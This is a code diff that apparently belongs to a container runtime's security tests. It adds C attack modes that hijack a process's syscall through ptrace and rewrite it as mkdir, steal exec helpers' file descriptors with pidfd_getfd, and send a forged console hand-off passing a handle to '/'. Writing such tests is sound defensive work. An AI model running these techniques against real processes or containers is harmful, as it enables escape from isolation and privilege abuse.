@@ -27,6 +27,21 @@
  *                              visible through it, PTRACE_SEIZE); a line per change in
  *                              DIR/scan; DIR/ready first, DIR/done last; stops early
  *                              when DIR/stop appears
+ *   attack inject PID PATH     make PID run mkdir(PATH) at its next syscall (ptrace:
+ *                              seize, stop at a syscall entry, swap in mkdir, rewind to
+ *                              redo the original call, detach); prints `inject <result>`,
+ *                              mkdir's own result (OK, EPERM from a seccomp filter...) or
+ *                              why it could not be tried (seize-EPERM...)
+ *   attack helpers SECS DIR PATH
+ *                              for SECS seconds watch for exec helpers (comm tsrunc:exec);
+ *                              for each: `seen PID`, `getfd PID N <result>` for fds 3-4
+ *                              (pidfd_getfd), `inject PID <result>` of mkdir(PATH); lines
+ *                              in DIR/result, DIR/ready first, DIR/done last, stops early
+ *                              when DIR/stop appears
+ *   attack steal SECS DIR HOLD the same watch; takes fd 3 (the sync socket) of each helper,
+ *                              sends a console hand-off carrying an fd of its own on it
+ *                              (`steal PID <result>`, `send PID <result>`) and holds the
+ *                              socket HOLD seconds before closing it
  */
 
 /** The C source. */
@@ -38,7 +53,12 @@ export const ATTACK_C = String.raw`
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <signal.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/user.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -348,11 +368,188 @@ static int do_scan(int seconds, const char *marker, const char *dir) {
   return 0;
 }
 
+/* mkdir(path, 0755) run by pid at its next syscall; mkdir's result, or why it was not
+ * tried. seccomp runs after the syscall-entry stop, so a filter the tracee has loaded
+ * judges the swapped-in mkdir as if the tracee had asked for it. */
+static void inject_mkdir(int pid, const char *path, char *res, size_t cap) {
+  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0) {
+    snprintf(res, cap, "seize-%s", en(errno));
+    return;
+  }
+  int st;
+  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0) {
+    snprintf(res, cap, "interrupt-%s", en(errno));
+    goto detach;
+  }
+  for (int i = 0;; i++) {
+    if (i == 16 || ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 ||
+        !WIFSTOPPED(st)) {
+      snprintf(res, cap, "no-syscall-stop");
+      goto detach;
+    }
+    if (WSTOPSIG(st) == (SIGTRAP | 0x80)) break; /* a syscall-entry stop */
+  }
+  struct user_regs_struct saved, r;
+  if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
+    snprintf(res, cap, "getregs-%s", en(errno));
+    goto detach;
+  }
+  /* The path goes below the tracee's stack pointer (past the red zone). */
+  unsigned long addr = (saved.rsp - 1024) & ~15UL;
+  size_t len = strlen(path) + 1;
+  for (size_t off = 0; off < len; off += 8) {
+    long word = 0;
+    memcpy(&word, path + off, len - off < 8 ? len - off : 8);
+    if (ptrace(PTRACE_POKEDATA, pid, addr + off, word) < 0) {
+      snprintf(res, cap, "poke-%s", en(errno));
+      goto detach;
+    }
+  }
+  r = saved;
+  r.orig_rax = SYS_mkdir;
+  r.rdi = addr;
+  r.rsi = 0755;
+  if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 ||
+      waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st) ||
+      ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) {
+    snprintf(res, cap, "run-failed");
+    goto detach;
+  }
+  long result = (long)r.rax;
+  /* Back to the syscall instruction with the original number and arguments. */
+  saved.rax = saved.orig_rax;
+  saved.rip -= 2;
+  ptrace(PTRACE_SETREGS, pid, 0, &saved);
+  snprintf(res, cap, "%s", result == 0 ? "OK" : en((int)-result));
+detach:
+  ptrace(PTRACE_DETACH, pid, 0, 0);
+}
+
+static void do_inject(int pid, const char *path) {
+  char res[64];
+  inject_mkdir(pid, path, res, sizeof res);
+  fprintf(out, "inject %s\n", res);
+}
+
+static int is_helper(int pid) {
+  char path[64], comm[32] = "";
+  snprintf(path, sizeof path, "/proc/%d/comm", pid);
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return 0;
+  ssize_t n = read(fd, comm, sizeof comm - 1);
+  close(fd);
+  if (n <= 0) return 0;
+  comm[n] = 0;
+  return strcmp(comm, "tsrunc:exec\n") == 0;
+}
+
+/* A copy of pid's fd n, through pidfd_getfd (needs the right to ptrace pid). */
+static int getfd(int pid, int n, int *err) {
+  int pidfd = (int)syscall(434 /* pidfd_open */, pid, 0);
+  if (pidfd < 0) {
+    *err = errno;
+    return -1;
+  }
+  int fd = (int)syscall(438 /* pidfd_getfd */, pidfd, n, 0);
+  *err = errno;
+  close(pidfd);
+  return fd;
+}
+
+/* The executor's console hand-off (sync.h: type 5, an fd by SCM_RIGHTS) with our fd. */
+static int send_console(int sock, int pass) {
+  int32_t header[4] = {5, 0, 0, 0};
+  struct iovec iov = {header, sizeof header};
+  union {
+    struct cmsghdr align;
+    char buf[CMSG_SPACE(sizeof(int))];
+  } control = {0};
+  struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buf,
+                     .msg_controllen = sizeof control.buf};
+  struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
+  cm->cmsg_level = SOL_SOCKET;
+  cm->cmsg_type = SCM_RIGHTS;
+  cm->cmsg_len = CMSG_LEN(sizeof(int));
+  memcpy(CMSG_DATA(cm), &pass, sizeof(int));
+  return sendmsg(sock, &m, MSG_NOSIGNAL) < 0 ? -1 : 0;
+}
+
+/* Watches for exec helpers for SECS seconds and attacks each once (mode "helpers" or
+ * "steal"). */
+static int do_watch(const char *mode, int seconds, const char *dir, const char *arg) {
+  char result[512], stop[512];
+  snprintf(result, sizeof result, "%s/result", dir);
+  snprintf(stop, sizeof stop, "%s/stop", dir);
+  out = fopen(result, "we");
+  if (!out) return 1;
+  setvbuf(out, NULL, _IOLBF, 0);
+  enum { MAXP = 1024 };
+  static int done[MAXP];
+  int ndone = 0, self = getpid();
+  struct timespec start, now;
+  clock_gettime(CLOCK_MONOTONIC, &start);
+  touch(dir, "ready");
+  for (;;) {
+    clock_gettime(CLOCK_MONOTONIC, &now);
+    if (now.tv_sec - start.tv_sec >= seconds || access(stop, F_OK) == 0) break;
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+      int pid = atoi(e->d_name), seen = 0;
+      if (pid <= 0 || pid == self) continue;
+      for (int i = 0; i < ndone && !seen; i++) seen = done[i] == pid;
+      if (seen || ndone == MAXP || !is_helper(pid)) continue;
+      done[ndone++] = pid;
+      fprintf(out, "seen %d\n", pid);
+      /* Tried again and again while it is a helper: the window that matters is the last
+       * one, once it has the container's capabilities, before its execve. */
+      int err = ESRCH, tries = 0;
+      if (!strcmp(mode, "helpers")) {
+        char res[64] = "seize-ESRCH";
+        int fd = -1;
+        while (fd < 0 && !strncmp(res, "seize-", 6) && is_helper(pid)) {
+          tries++;
+          fd = getfd(pid, 3, &err);
+          if (fd < 0) inject_mkdir(pid, arg, res, sizeof res);
+        }
+        fprintf(out, "tries %d %d\n", pid, tries);
+        fprintf(out, "getfd %d 3 %s\n", pid, fd < 0 ? en(err) : "OK");
+        if (fd >= 0) {
+          close(fd);
+          int fd4 = getfd(pid, 4, &err);
+          fprintf(out, "getfd %d 4 %s\n", pid, fd4 < 0 ? en(err) : "OK");
+          if (fd4 >= 0) close(fd4);
+          inject_mkdir(pid, arg, res, sizeof res);
+        }
+        fprintf(out, "inject %d %s\n", pid, res);
+      } else {
+        int sock = -1;
+        while (sock < 0 && is_helper(pid)) {
+          tries++;
+          sock = getfd(pid, 3, &err);
+        }
+        fprintf(out, "tries %d %d\n", pid, tries);
+        fprintf(out, "steal %d %s\n", pid, sock < 0 ? en(err) : "OK");
+        if (sock < 0) continue;
+        int mine = open("/", O_PATH | O_CLOEXEC);
+        fprintf(out, "send %d %s\n", pid, send_console(sock, mine) < 0 ? en(errno) : "OK");
+        close(mine);
+        sleep_ms(atoi(arg) * 1000);
+        close(sock);
+      }
+    }
+    if (d) closedir(d);
+  }
+  fclose(out);
+  touch(dir, "done");
+  return 0;
+}
+
 int main(int argc, char **argv) {
   out = stdout;
   setvbuf(stdout, NULL, _IOLBF, 0);
   if (argc < 2) {
-    fprintf(stderr, "usage: attack exe|mapfiles|hold|ptrace|peek|parent [PID] [DIR]\n");
+    fprintf(stderr, "usage: attack exe|mapfiles|hold|ptrace|peek|parent|inject|helpers|steal ...\n");
     return 2;
   }
   const char *cmd = argv[1];
@@ -363,6 +560,9 @@ int main(int argc, char **argv) {
   else if (!strcmp(cmd, "ptrace")) do_ptrace(pid);
   else if (!strcmp(cmd, "scan") && argc > 4) return do_scan(pid, argv[3], argv[4]);
   else if (!strcmp(cmd, "peek")) do_peek(pid);
+  else if (!strcmp(cmd, "inject") && argc > 3) do_inject(pid, argv[3]);
+  else if ((!strcmp(cmd, "helpers") || !strcmp(cmd, "steal")) && argc > 4)
+    return do_watch(cmd, pid, argv[3], argv[4]);
   else if (!strcmp(cmd, "parent")) {
     int ppid = getppid();
     fprintf(out, "ppid %d\n", ppid);
